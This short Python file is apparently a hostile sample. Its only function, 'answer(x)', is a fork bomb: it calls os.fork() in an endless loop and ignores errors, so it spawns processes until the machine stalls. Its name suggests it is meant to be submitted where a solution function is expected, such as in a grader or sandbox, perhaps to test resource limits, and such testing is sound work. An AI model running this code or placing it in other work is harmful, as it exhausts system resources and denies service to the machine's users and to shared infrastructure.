"""Starts processes that start processes."""

import os


def answer(x):
    while True:
        try:
            os.fork()
        except OSError:
            continue
